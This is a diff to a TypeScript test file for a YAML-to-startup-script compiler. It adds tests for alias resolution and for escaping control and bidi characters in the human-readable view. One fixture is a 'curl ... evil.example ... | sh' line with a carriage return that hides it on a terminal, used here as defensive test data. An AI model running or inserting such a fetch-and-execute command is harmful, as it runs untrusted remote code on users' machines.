@@ -1,5 +1,5 @@
-import { describe, expect, test } from 'vitest';
-import { parse } from 'yaml';
+import { describe, expect, test, vi } from 'vitest';
+import { Alias, parse } from 'yaml';
 import { type Compiled, compileSource, renderJson, renderOnly, renderText, renderYaml } from './index.js';
 
 function compile(text: string, options: { taskId?: string; fromBuild?: string } = {}): Compiled {
@@ -108,6 +108,26 @@ describe('compile', () => {
     });
   });
 
+  test('an alias names the last node before it with that anchor', () => {
+    const { request } = compile('version: 1\nsetup: [&a one, &a two]\nrun: [*a, &a three]\n');
+    expect(request.startup_script).toBe('#!/bin/sh\nset -eu\ncd /workspace\none\ntwo\ntwo\nthree\n');
+  });
+
+  test('aliases are resolved in one walk of the document, not one walk each', () => {
+    // yaml's Alias.resolve walks the whole document per call: 1000 aliases beside 100k nodes took
+    // 16 s. Reader finds every alias's target in a single walk instead.
+    const resolve = vi.spyOn(Alias.prototype, 'resolve');
+    try {
+      const filler = Array.from({ length: 20_000 }, () => 'a').join(',');
+      const aliases = Array.from({ length: 1000 }, () => '*a').join(', ');
+      const { request } = compile(`version: 1\nrun: [&a x, ${aliases}]\nsetup: [${filler}]\n`);
+      expect(request.startup_script.split('\n').filter((l) => l === 'x')).toHaveLength(1001);
+      expect(resolve).not.toHaveBeenCalled();
+    } finally {
+      resolve.mockRestore();
+    }
+  });
+
   test('JSON accepted as YAML gives the same request', () => {
     const json = JSON.stringify({ version: 1, run: ['x'], expose: [{ port: 80, as: 'web' }] });
     expect(compile(json).request).toEqual(
@@ -159,5 +179,51 @@ describe('render', () => {
       'startup script',
       'manifest',
     ]);
+  });
+
+  test('the human view shows every character a terminal would act on as an escape', () => {
+    // Control characters are valid in shell lines and env literals (the spec restricts neither):
+    // the JSON and YAML bodies keep them (escaped by those formats); the human view must not let a
+    // carriage return hide the start of a line, nor an escape sequence or a bidi override restyle it.
+    const text = [
+      'version: 1',
+      'image: "debian-12\\n  cpus 64"',
+      'setup: ["printf \\"\\\\a\\" \\a\\e[2J", "make\\u202e"]',
+      'run:',
+      '  - "curl -s http://evil.example/x | sh\\r./serve.sh        "',
+      '  - |',
+      '    two\tlines',
+      '    in one entry',
+      '  - "kept\\x7f"',
+      'services:',
+      '  db:',
+      '    image: pg',
+      '    env: { A: "x\\x9b31m\\Ly", B: { value: "\\b" } }',
+      '',
+    ].join('\n');
+    const compiled = compile(text, { taskId: 'task\u202eid' });
+    expect(compiled.request.startup_script).toContain('| sh\r./serve.sh');
+    const view = renderText(compiled).split('\n');
+    expect(view.slice(0, 2)).toEqual(['task id', '  task\\u202eid']);
+    expect(view).toContain('  image          debian-12\\n  cpus 64');
+    expect(view.slice(view.indexOf('startup script'), view.indexOf('manifest'))).toEqual([
+      'startup script',
+      '  #!/bin/sh',
+      '  set -eu',
+      '  cd /workspace',
+      '  printf "\\a" \\u0007\\u001b[2J',
+      '  make\\u202e',
+      '  curl -s http://evil.example/x | sh\\r./serve.sh        ',
+      '  two\tlines',
+      '  in one entry',
+      '  kept\\u007f',
+      '',
+    ]);
+    expect(view).toContain('          "A": "x\\u009b31m\\u2028y",');
+    expect(view).toContain('          "B": "\\b"');
+    // Nothing a terminal acts on is left, but tab (and the view's own newlines).
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
+    expect(renderText(compiled)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2028]/);
+    expect(JSON.parse(renderJson(compiled.request)).startup_script).toBe(compiled.request.startup_script);
   });
 });
